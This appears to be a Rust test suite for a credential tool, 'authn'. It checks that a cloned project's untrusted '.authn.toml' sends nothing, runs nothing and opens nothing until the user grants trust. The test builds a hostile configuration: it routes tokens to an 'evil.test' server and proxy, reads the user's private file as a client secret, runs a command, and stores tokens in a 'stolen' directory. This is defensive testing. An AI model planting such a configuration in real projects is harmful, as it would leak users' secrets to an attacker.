//! A hostile clone: until its user trusts its `.authn.toml`, nothing is sent, run or opened because of it.
//!
//! The system calls show it. After trust, the same file takes effect and the calls appear: so these
//! tests would see it before, too.

#![cfg(unix)]
#![expect(clippy::unwrap_used, reason = "helpers of tests are tests")]

use std::{
    fs,
    os::unix::fs::{PermissionsExt as _, symlink},
    path::{Path, PathBuf},
    process::Command,
};

use authn_tests::{
    command::{Outcome, Sandbox, binary},
    rig::Rig,
    terminal::Terminal,
};

/// Everything that sends, runs or opens.
const CALLS: &str = "trace=connect,sendto,sendmsg,sendmmsg,execve,execveat,open,openat,openat2";
/// What the user has of their own.
const OWN: &str = "[credentials]\ndomain = 'own.test'\nbearer = 'own'\n\
    [profile.test.credentials]\ndomain = 'test.own.test'\n";

/// Columns and rows of a window in which no line is broken.
const WINDOW: (u16, u16) = (250, 60);

/// A user who works in a clone, and the server of its author.
struct Scene {
    evil: Rig,
    sandbox: Sandbox,
}

/// What a traced program has done.
struct Trace {
    sent: Vec<String>,
    run: Vec<String>,
    opened: Vec<String>,
}

impl Scene {
    fn new() -> Self {
        let strace = Command::new("strace").arg("-V").output();
        assert!(strace.is_ok(), "strace is missing: run tests/run, which installs it");
        let scene = Self { evil: Rig::start(), sandbox: Sandbox::new() };
        scene.sandbox.file(scene.sandbox.config().join("authn/config.toml"), OWN);
        let private = scene.sandbox.file(scene.private(), "secret");
        fs::set_permissions(private, fs::Permissions::from_mode(0o600)).unwrap();
        fs::create_dir(scene.sandbox.work().join(".git")).unwrap();
        fs::write(scene.file(), scene.hostile()).unwrap();
        scene
    }

    /// A private file of the user.
    fn private(&self) -> PathBuf {
        self.sandbox.home().join("private")
    }

    fn file(&self) -> PathBuf {
        self.sandbox.work().join(".authn.toml")
    }

    fn stolen(&self) -> PathBuf {
        self.sandbox.work().join("stolen")
    }

    /// All that a project's file could wish for.
    fn hostile(&self) -> String {
        let (issuer, ca) = (self.evil.issuer(), self.evil.ca());
        let (ca, private, stolen) = (ca.display(), self.private(), self.stolen());
        let (private, stolen) = (private.display(), stolen.display());
        format!(
            r#"default_profile = "test"
[credentials]
domain = "evil.test"
origins = ["*"]
provider = "oauth"
[credentials.oauth]
token_endpoint_url = "{issuer}/token"
client_id = "cc-basic"
client_secret = {{ file = "{private}" }}
store = "file"
[credentials.exec]
command = ["touch", "ran"]
[http]
proxy = "http://proxy.evil.test:3128"
ca_file = "{ca}"
[stores.file]
directory = "{stolen}"
[profile.test.credentials]
domain = "evil.test"
[profile.run.credentials.oauth]
client_secret = {{ command = ["touch", "ran"] }}
"#
        )
    }

    /// Prepares `authn` under strace, in a folder.
    fn traced(&self, folder: &Path, arguments: &[&str]) -> Command {
        let mut command = self.sandbox.command("strace");
        command.args(["-f", "-s", "4096", "-e", CALLS, "-o"]).arg(self.log());
        command.arg(binary("authn")).args(arguments).current_dir(folder);
        command
    }

    fn run_in(&self, folder: &Path, arguments: &[&str]) -> (Outcome, Trace) {
        let output = self.traced(folder, arguments).output().unwrap();
        let outcome = Outcome::of(output);
        (outcome, self.trace())
    }

    fn run(&self, arguments: &[&str]) -> (Outcome, Trace) {
        self.run_in(&self.sandbox.work(), arguments)
    }

    fn log(&self) -> PathBuf {
        self.sandbox.home().join("trace")
    }

    fn trace(&self) -> Trace {
        let log = fs::read_to_string(self.log()).unwrap();
        let calls = |names: &[&str]| {
            let called = |line: &&str| {
                let call = line.trim_start_matches(|c: char| c.is_ascii_digit() || c == ' ');
                names.iter().any(|name| call.starts_with(&format!("{name}(")))
            };
            log.lines().filter(called).map(str::to_owned).collect()
        };
        Trace {
            sent: calls(&["connect", "sendto", "sendmsg", "sendmmsg"]),
            run: calls(&["execve", "execveat"]),
            opened: calls(&["open", "openat", "openat2"]),
        }
    }

    /// Checks that nothing has happened because of the file.
    #[track_caller]
    fn assert_harmless(&self, trace: &Trace, what: &str) {
        // These ask the user's own keyring, over the user's own bus, whatever a project says.
        let own_bus = |call: &&String| {
            ["stores", "logout --all"].contains(&what)
                && call.contains("AF_UNIX")
                && call.contains("/run/bus")
        };
        let sent: Vec<&String> = trace.sent.iter().filter(|call| !own_bus(call)).collect();
        assert_eq!(sent, Vec::<&String>::new(), "{what}");
        assert_eq!(trace.run.len(), 1, "{what}: the program itself, in {:?}", trace.run);
        assert!(!trace.opened.is_empty(), "{what}: nothing was traced");
        for path in [&self.private(), &self.evil.ca(), &self.stolen()] {
            let path = path.display().to_string();
            let opened = trace.opened.iter().find(|call| call.contains(&path));
            assert_eq!(opened, None, "{what}");
        }
        assert!(!self.stolen().exists(), "{what}");
        assert!(!self.sandbox.work().join("ran").exists(), "{what}");
        assert!(self.evil.log().is_empty(), "{what}");
    }

    /// Checks that a clone is not trusted, and that its file is harmless.
    #[track_caller]
    fn assert_withheld(&self, folder: &Path, state: &str) {
        let (outcome, trace) = self.run_in(folder, &["config", "path"]);
        assert!(outcome.stdout.contains(&format!("project\t{state}\t")), "{outcome:?}");
        self.assert_harmless(&trace, state);
        let (outcome, trace) = self.run_in(folder, &["token"]);
        assert_eq!(outcome.stdout, "own\n", "{outcome:?}");
        self.assert_harmless(&trace, state);
    }

    /// Trusts the clone, without a question.
    fn trust(&self) {
        self.sandbox.run(binary("authn"), &["config", "trust", "--yes"]).success();
    }
}

#[test]
fn before_trust_nothing_is_sent_run_or_opened() {
    let scene = Scene::new();
    for (arguments, code) in [
        (&["token"][..], 0),
        (&["header"], 0),
        (&["header", "--url", "https://test.own.test/"], 0),
        (&["header", "--url", "https://evil.test/"], 3),
        (&["status"], 0),
        (&["logout"], 0),
        (&["logout", "--all"], 0),
        (&["login"], 0),
        (&["doctor", "--offline"], 0),
        (&["completions", "bash"], 0),
        (&["man"], 0),
        (&["stores"], 0),
        (&["config", "check", "--network"], 0),
        (&["config", "show"], 0),
        (&["config", "show", "--json"], 0),
        (&["config", "check"], 0),
        (&["config", "check", "--strict"], 3),
        (&["config", "path"], 0),
        (&["config", "trust"], 2),
        (&["config", "trust", "--revoke"], 0),
    ] {
        let (outcome, trace) = scene.run(arguments);
        assert_eq!(outcome.code, code, "{arguments:?} {outcome:?}");
        assert!(!outcome.stdout.contains("evil.test"), "{arguments:?} {outcome:?}");
        scene.assert_harmless(&trace, &arguments.join(" "));
    }
    let shown = scene.sandbox.run(binary("authn"), &["config", "show"]).success();
    assert!(shown.contains("default_profile\t\"test\"\t"), "it may choose a profile: {shown}");
    assert!(shown.contains("credentials.domain\t\"test.own.test\"\t"), "{shown}");
    assert!(shown.contains("credentials.domain\t(withheld)\t"), "{shown}");
    for key in ["http.proxy", "http.ca_file", "stores.file.directory", "credentials.origins"] {
        assert!(shown.contains(&format!("{key}\t(withheld)\t")), "{key} {shown}");
    }
}

#[test]
fn a_user_without_a_configuration_is_as_safe() {
    let scene = Scene::new();
    fs::remove_file(scene.sandbox.config().join("authn/config.toml")).unwrap();
    for command in ["token", "header", "status", "logout"] {
        let (outcome, trace) = scene.run(&[command]);
        assert_eq!(outcome.code, 3, "{command} {outcome:?}");
        assert!(outcome.stderr.contains("`authn config trust`"), "{command} {outcome:?}");
        scene.assert_harmless(&trace, command);
    }
}

/// How a program in a window ended, and all that was on the screen.
#[derive(Debug)]
struct Answered {
    code: i32,
    screen: String,
}

/// Types a line and waits for the end.
fn answered(terminal: &Terminal, line: &str) -> Answered {
    terminal.send(line);
    terminal.press("Enter");
    Answered { code: terminal.wait_for_end(), screen: terminal.transcript() }
}

#[test]
fn a_no_is_a_no_and_a_yes_is_a_yes() {
    let scene = Scene::new();
    let answer = |line: &str| {
        let command = scene.traced(&scene.sandbox.work(), &["config", "trust"]);
        let arguments: Vec<&str> = command.get_args().map(|word| word.to_str().unwrap()).collect();
        let words: Vec<&str> = std::iter::once("strace").chain(arguments).collect();
        let terminal = Terminal::start(&scene.sandbox, WINDOW, &words, &[]);
        terminal.wait_for("Trust this file? [y/N]");
        assert!(scene.evil.log().is_empty(), "before the answer");
        let outcome = answered(&terminal, line);
        scene.assert_harmless(&scene.trace(), line);
        outcome
    };
    for line in ["", "n", "maybe", "true"] {
        let outcome = answer(line);
        assert_eq!(outcome.code, 1, "{line:?} {outcome:?}");
        assert!(outcome.screen.ends_with(".authn.toml is not trusted\n"), "{outcome:?}");
        assert!(!scene.sandbox.state().join("authn").exists());
    }
    scene.assert_withheld(&scene.sandbox.work(), "withheld");

    let outcome = answer("y");
    assert_eq!(outcome.code, 0, "{outcome:?}");
    let [private, stolen] =
        [scene.private(), scene.stolen()].map(|path| path.display().to_string());
    for named in [
        ["server", scene.evil.issuer()],
        ["server", "http://proxy.evil.test:3128"],
        ["origin", "evil.test"],
        ["file", &private],
        ["file", &stolen],
        ["profile", "run"],
    ] {
        let mut lines = outcome.screen.lines().map(|line| line.split_whitespace().take(2));
        assert!(lines.any(|words| words.eq(named)), "{named:?}\n{}", outcome.screen);
    }
    // The same file, after trust.
    let (outcome, trace) = scene.run(&["token"]);
    assert_eq!(outcome.code, 0, "{outcome:?}");
    assert!(!trace.sent.is_empty());
    assert!(trace.opened.iter().any(|call| call.contains(&private)));
    assert!(scene.stolen().is_dir());
    assert_eq!(scene.evil.count(&[("client", "cc-basic"), ("status", "200")]), 1);
}

#[test]
fn one_changed_byte_revokes_it() {
    let scene = Scene::new();
    scene.trust();
    let hostile = scene.hostile();
    for changed in [
        format!("{hostile}\n"),
        hostile.replacen("evil", "eviL", 1),
        hostile[..hostile.len() - 1].to_owned(),
        hostile.replace('\n', "\r\n"),
    ] {
        fs::write(scene.file(), changed).unwrap();
        scene.assert_withheld(&scene.sandbox.work(), "changed");
    }
}

#[test]
fn nothing_inside_the_file_grants_it() {
    let scene = Scene::new();
    let hash = "0".repeat(64);
    for head in [
        "trusted = true\nyes = true\n".to_owned(),
        "[trust]\nyes = true\n".to_owned(),
        format!("[trust]\npath = '.'\nsha256 = '{hash}'\n"),
        "[profile.test.trust]\nyes = true\n".to_owned(),
    ] {
        let hostile = scene.hostile();
        let (first, rest) = hostile.split_once('\n').unwrap();
        fs::write(scene.file(), format!("{first}\n{head}{rest}")).unwrap();
        scene.assert_withheld(&scene.sandbox.work(), "withheld");
    }
}

#[test]
fn a_link_does_not_inherit_trust() {
    let scene = Scene::new();
    scene.trust();
    // A clone that points at what is trusted elsewhere.
    let other = scene.sandbox.work().join("other");
    fs::create_dir_all(other.join(".git")).unwrap();
    symlink("../.authn.toml", other.join(".authn.toml")).unwrap();
    scene.assert_withheld(&other, "withheld");
    // A copy.
    fs::remove_file(other.join(".authn.toml")).unwrap();
    fs::copy(scene.file(), other.join(".authn.toml")).unwrap();
    scene.assert_withheld(&other, "withheld");
    // The trusted path, with a link at it to the same bytes.
    fs::remove_file(scene.file()).unwrap();
    symlink("other/.authn.toml", scene.file()).unwrap();
    scene.assert_withheld(&scene.sandbox.work(), "changed");
}

#[test]
fn a_state_directory_in_the_clone_is_ignored() {
    let mut scene = Scene::new();
    let work = scene.sandbox.work();
    let record = |state: &Path| {
        let folder = fs::read_dir(state.join("authn/trust")).unwrap();
        folder.map(|entry| entry.unwrap().path()).next().unwrap()
    };
    // The very record that the user would write, in the clone.
    let mut command = scene.sandbox.command(binary("authn"));
    command.args(["config", "trust", "--yes"]).env("XDG_STATE_HOME", work.join("state"));
    assert!(command.output().unwrap().status.success());
    let brought = record(&work.join("state"));
    fs::create_dir_all(work.join(".local/state")).unwrap();
    fs::create_dir_all(work.join("authn")).unwrap();
    fs::rename(work.join("state/authn"), work.join(".local/state/authn")).unwrap();
    let brought = work.join(".local").join(brought.strip_prefix(&work).unwrap());
    assert!(brought.is_file());
    scene.assert_withheld(&work, "withheld");
    // A relative path in the variable is no folder of the user's (XDG Base Directory Specification).
    scene.sandbox.env("XDG_STATE_HOME", ".local/state");
    scene.assert_withheld(&work, "withheld");
    scene.sandbox.env("XDG_STATE_HOME", scene.sandbox.state());

    // In the user's folder it is no record as long as it is a link, or under another's name.
    scene.trust();
    let kept = record(&scene.sandbox.state());
    scene.sandbox.run(binary("authn"), &["config", "trust", "--revoke"]).success();
    symlink(&brought, &kept).unwrap();
    scene.assert_withheld(&work, "withheld");
    fs::remove_file(&kept).unwrap();
    fs::copy(&brought, kept.with_file_name(format!("{}.json", "0".repeat(64)))).unwrap();
    scene.assert_withheld(&work, "withheld");
    // This is the one that counts: so the ones above were refused for what they are.
    fs::copy(&brought, &kept).unwrap();
    let paths = scene.sandbox.run(binary("authn"), &["config", "path"]).success();
    assert!(paths.contains("project\ttrusted\t"), "{paths}");
}

#[test]
fn an_edit_can_be_repeated_and_ends_the_trust() {
    let mut scene = Scene::new();
    scene.trust();
    let script = "#!/bin/sh\nif [ -e fixed ]; then sed -i '$d' \"$1\"; else touch fixed; echo '[' >>\"$1\"; fi\n";
    let editor = scene.sandbox.file(scene.sandbox.home().join("editor"), script);
    fs::set_permissions(&editor, fs::Permissions::from_mode(0o755)).unwrap();
    scene.sandbox.env("EDITOR", &editor);
    let authn = binary("authn");
    let arguments = [authn.to_str().unwrap(), "config", "edit", "--project"];
    let terminal = Terminal::start(&scene.sandbox, WINDOW, &arguments, &[]);
    terminal.wait_for("Edit it again? [Y/n]");
    let outcome = answered(&terminal, "");
    assert_eq!(outcome.code, 0, "{outcome:?}");
    assert!(outcome.screen.contains("error: syntax"), "{outcome:?}");
    assert!(outcome.screen.contains("can be read, and is trusted"), "as it was: {outcome:?}");

    fs::remove_file(scene.sandbox.work().join("fixed")).unwrap();
    let terminal = Terminal::start(&scene.sandbox, WINDOW, &arguments, &[]);
    terminal.wait_for("Edit it again? [Y/n]");
    let outcome = answered(&terminal, "n");
    assert_eq!(outcome.code, 3, "{outcome:?}");
    let kept = fs::read_to_string(scene.file()).unwrap();
    assert_eq!(kept, format!("{}[\n", scene.hostile()), "what was saved stays");
}
